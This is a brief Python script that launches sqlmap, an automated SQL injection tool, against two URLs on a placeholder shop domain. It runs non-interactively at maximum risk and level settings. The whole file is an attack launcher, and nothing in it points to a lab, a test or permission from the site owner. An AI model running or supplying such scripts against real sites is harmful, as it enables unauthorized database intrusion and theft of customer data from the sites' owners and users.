import subprocess

by_number = ["sqlmap", "-u", "https://shop.example.com/?id=1", "--batch", "--risk=3"]
by_text = ["sqlmap", "-u", "https://shop.example.com/?q=1", "--batch", "--level=5"]
subprocess.run(by_number)
subprocess.run(by_text)
